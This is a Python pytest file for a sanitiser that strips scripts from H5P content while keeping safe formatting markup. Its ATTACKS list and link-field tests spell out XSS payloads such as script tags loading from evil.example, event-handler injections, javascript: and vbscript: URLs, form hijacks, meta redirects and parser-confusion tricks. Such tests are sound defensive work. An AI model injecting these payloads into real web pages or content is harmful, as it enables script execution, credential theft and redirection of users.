"""content.json sanitising: scripts go, the markup H5P text fields use stays, plain text and
other values are left alone."""

from __future__ import annotations

from typing import Any

import pytest

from activities.package.sanitise import sanitise_content, sanitise_html

ATTACKS = [
    # (payload, text that must not survive)
    ("<script>alert(1)</script>", "alert"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil.example"),
    ('<img src="x" onerror="alert(1)">', "onerror"),
    ('<p onclick="steal()">hi</p>', "onclick"),
    ('<a href="javascript:alert(1)">x</a>', "javascript:"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "alert"),
    ('<a href="java&#x09;script:alert(1)">x</a>', "alert"),
    ('<a href="vbscript:msgbox(1)">x</a>', "vbscript"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "data:"),
    ('<a href="/\\evil.example">x</a>', "evil.example"),
    ('<a href="https://ok.example" target="_top">x</a>', "_top"),
    ('<svg onload="alert(1)"><circle r="1"/></svg>', "svg"),
    ("<math><mtext><img src=x onerror=alert(1)></mtext></math>", "onerror"),
    ('<iframe src="https://evil.example"></iframe>', "iframe"),
    ('<object data="x.swf"></object>', "object"),
    ('<embed src="x.swf">', "embed"),
    ('<form action="https://evil.example"><input name="p"></form>', "form"),
    ("<style>body{background:url(https://evil.example)}</style>", "evil.example"),
    ('<p style="background:url(javascript:alert(1))">x</p>', "style"),
    ('<div style="position:fixed;top:0;left:0;width:100%">cover</div>', "position:fixed"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "evil.example"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "refresh"),
    ('<base href="https://evil.example/">', "base"),
    ('<img src="https://tracker.example/pixel.gif" alt="">', "tracker.example"),
    ("<!-- <script>alert(1)</script> -->", "alert"),
    ("<template><script>alert(1)</script></template>", "alert"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "onerror"),
    ('<span class="h5p-evil" id="x">t</span>', "class"),
]


@pytest.mark.parametrize(("payload", "forbidden"), ATTACKS)
def test_scripts_and_their_disguises_are_removed(payload: str, forbidden: str) -> None:
    cleaned = sanitise_content({"text": f"<p>Before</p>{payload}<p>After</p>"})["text"]
    assert forbidden.lower() not in cleaned.lower()
    assert cleaned.startswith("<p>Before</p>")
    assert cleaned.endswith("<p>After</p>")


@pytest.mark.parametrize(
    "markup",
    [
        "<p>A paragraph with <strong>strong</strong>, <em>emphasis</em>, <b>b</b>, <i>i</i>, "
        "<u>u</u>, <s>s</s>, <sub>2</sub> and <sup>3</sup>.</p>",
        "<p>One line<br>and the next</p>",
        "<ul><li>One</li><li>Two</li></ul>",
        '<ol start="3"><li>Three</li></ol>',
        "<h2>Title</h2><h3>Sub</h3><h4>4</h4><h5>5</h5><h6>6</h6>",
        "<blockquote><p>Quoted</p></blockquote>",
        "<div><span>Spans and divs</span></div>",
        "<hr>",
        "<pre><code>code()</code></pre>",
        '<table><thead><tr><th scope="col">Head</th></tr></thead>'
        '<tbody><tr><td colspan="2">Cell</td></tr></tbody></table>',
        '<a href="https://www.who.int/" title="WHO" target="_blank" rel="noopener noreferrer">'
        "WHO</a>",
        '<a href="mailto:help@example.org" rel="noopener noreferrer">Write</a>',
        '<a href="images/chart.png" rel="noopener noreferrer">A file of the activity</a>',
        "<p>Қазақ тілі және русский язык</p>",
    ],
)
def test_the_markup_h5p_text_fields_use_survives(markup: str) -> None:
    assert sanitise_content({"text": markup}) == {"text": markup}


def test_links_get_rel_and_keep_a_safe_target() -> None:
    cleaned = sanitise_html('<a href="https://example.org" target="_blank">x</a>')
    assert (
        cleaned == '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>'
    )


@pytest.mark.parametrize(
    "text",
    ["Plain text", "Fish & chips", "3 > 2", "&lt;script&gt; is shown, not run", "",
     "https://example.org/page", "A sentence: with a colon", "images/photo-1.png"],
)  # fmt: skip
def test_strings_without_markup_are_left_alone(text: str) -> None:
    assert sanitise_content({"text": text}) == {"text": text}


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "  JavaScript:alert(1)", "java\tscript:alert(1)",
            "\x01javascript:alert(1)", "vbscript:msgbox(1)"],
)  # fmt: skip
def test_a_bare_script_url_is_emptied(url: str) -> None:
    # A link field ({"url": ...}) that a content type would put in an href.
    assert sanitise_content({"link": {"url": url}}) == {"link": {"url": ""}}


def test_a_string_with_a_lone_angle_bracket_is_escaped_not_lost() -> None:
    assert sanitise_content("x < 5") == "x &lt; 5"


def test_every_string_in_the_structure_is_cleaned_and_other_values_kept() -> None:
    data: dict[str, Any] = {
        "questions": [
            {"text": "<p>Why?</p><script>x()</script>", "answers": ["<b>Yes</b>", "No"]},
            {"text": '<img src=x onerror="x()">How?', "points": 2, "weight": 0.5},
        ],
        "behaviour": {"enableRetry": True, "passPercentage": None},
        "<img src=x onerror=x()>key": "value",
    }
    assert sanitise_content(data) == {
        "questions": [
            {"text": "<p>Why?</p>", "answers": ["<b>Yes</b>", "No"]},
            {"text": "How?", "points": 2, "weight": 0.5},
        ],
        "behaviour": {"enableRetry": True, "passPercentage": None},
        "key": "value",
    }


def test_the_input_is_not_changed() -> None:
    data = {"text": "<script>x</script>"}
    sanitise_content(data)
    assert data == {"text": "<script>x</script>"}
